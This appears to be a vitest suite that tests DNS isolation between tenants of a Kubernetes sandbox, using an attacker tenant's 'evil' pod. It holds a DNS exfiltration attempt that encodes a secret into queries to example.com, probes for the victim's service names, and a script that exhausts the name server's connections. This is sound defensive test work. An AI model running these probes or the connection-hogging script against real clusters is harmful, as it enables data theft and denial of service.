import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { outside } from "./machine.ts";
import type { Tenant } from "./tenant.ts";
import { until } from "./until.ts";
import { networkPolicies } from "./victim.ts";
import { noWorld } from "./why-no-world.ts";
import { enterWorld, type World } from "./world.ts";

/** Queries the Pod's name server and prints the response code and addresses. */
const asking = (name: string, kind = 1): string => `python3 -c '
import re, socket, struct
server = re.search(r"nameserver (\\S+)", open("/etc/resolv.conf").read())[1]
name = b"".join(bytes([len(part)]) + part.encode() for part in "${name}".split(".")) + b"\\0"
caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
caller.settimeout(3)
caller.sendto(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", ${kind}, 1), (server, 53))
answer = caller.recv(4096)
print("code", answer[3] & 15, *[socket.inet_ntoa(each) for each in re.findall(rb"\\x00\\x04(....)", answer[12:], re.S)])
'`;

/** Opens as many connections to the name server as it can, prints their number, and keeps them open. */
const hogging = `python3 -c '
import re, socket, sys, time
server = re.search(r"nameserver (\\S+)", open("/etc/resolv.conf").read())[1]
held = []
for _ in range(300):
    try: held.append(socket.create_connection((server, 53), 1))
    except OSError: pass
print("held", len(held), flush=True)
end = time.time() + 8
while time.time() < end:
    for each in held:
        try: each.send(b"\\0")
        except OSError: pass
    time.sleep(1)
'`;

describe.skipIf(noWorld)("names that a sandbox asks for", () => {
  let world: World;
  let mallory: Tenant;
  beforeAll(async () => {
    world = await enterWorld();
    mallory = await world.tenant();
    await Promise.all(["evil", "shut"].map((name) => mallory.runPod(name, { metadata: { labels: { app: name } } })));
    await mallory.create(networkPolicies, "shut", {
      spec: { podSelector: { matchLabels: { app: "shut" } }, policyTypes: ["Egress"] },
    });
    await until(async () => ((await mallory.shell("shut", asking("x.example.com"))) === "code 5" ? true : undefined));
  });
  afterAll(async () => {
    await Promise.all(["evil", "shut"].map((name) => mallory?.removePod(name)));
    await mallory?.[Symbol.asyncDispose]();
    await world?.[Symbol.asyncDispose]();
  });

  test("names of the victim's Pods and Services look as if they did not exist", async () => {
    for (const name of ["web", "friend", "nobody", "web.web"]) {
      const full = `${name}.${world.alice.namespace}.svc.cluster.local`;
      expect(await mallory.shell("evil", asking(full))).toBe("code 3");
      expect(await mallory.shell("evil", asking(full, 255))).toBe("code 3");
    }
    const reverse = (world.alice.record.pods["web"]?.address ?? "").split(".").toReversed().join(".");
    expect(await mallory.shell("evil", asking(`${reverse}.in-addr.arpa`, 12))).toBe("code 3");
    const own = await mallory.pod("evil");
    const known = await mallory.shell("evil", asking(`evil.${mallory.namespace}.svc.cluster.local`));
    expect(known).toBe(`code 0 ${own.status?.podIP}`);
  });

  test("without egress, no query is forwarded, and names of the own namespace resolve", async () => {
    const secret = "exfiltrated-secret";
    expect(await mallory.shell("shut", asking(`${secret}.example.com`))).toBe("code 5");
    expect(await mallory.shell("shut", asking("1.113.0.203.in-addr.arpa", 12))).toBe("code 5");
    expect(await mallory.shell("shut", asking(`${secret}.example.com`, 16))).toBe("code 5");
    const own = await mallory.pod("evil");
    expect(await mallory.shell("shut", asking(`evil.${mallory.namespace}.svc.cluster.local`))).toBe(
      `code 0 ${own.status?.podIP}`,
    );
    expect(world.machine.received().filter(({ text }) => text.includes(secret))).toEqual([]);
    expect(await mallory.shell("evil", asking("allowed.example.com"))).toBe(`code 0 ${outside.public}`);
  });

  test("a tenant that holds as many connections as it can leaves some for the victim", async () => {
    const hog = mallory.shell("evil", hogging);
    await until(async () => {
      const { stdout } = await world.machine.run("ss", "-tnH", "state", "established", "sport = :53");
      return stdout.split("\n").length > 3 ? true : undefined;
    });
    expect(await world.alice.harm()).toEqual([]);
    const overTcp = `python3 -c '
import re, socket
server = re.search(r"nameserver (\\S+)", open("/etc/resolv.conf").read())[1]
query = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\5${world.alice.namespace}\\3svc\\7cluster\\5local\\0\\0\\1\\0\\1"
caller = socket.create_connection((server, 53), 3)
caller.sendall(len(query).to_bytes(2, "big") + query)
print(caller.recv(512)[5] & 15)
'`;
    expect(await world.alice.shell("friend", overTcp)).toBe("0");
    expect(Number((await hog).replace("held ", ""))).toBeLessThanOrEqual(300);
  });

  test("a query from a user of the machine is refused", async () => {
    const server = await mallory.shell("evil", "sed -n 's/^nameserver //p' /etc/resolv.conf");
    const script = asking("web.alice.svc.cluster.local").replace(/^python3 -c '|'$/g, "");
    const program = script.replace(/re\.search\(.*\)\[1\]/, JSON.stringify(server));
    const { stdout } = await world.machine.run("python3", "-c", program);
    expect(stdout.trim()).toBe("code 5");
  });
});
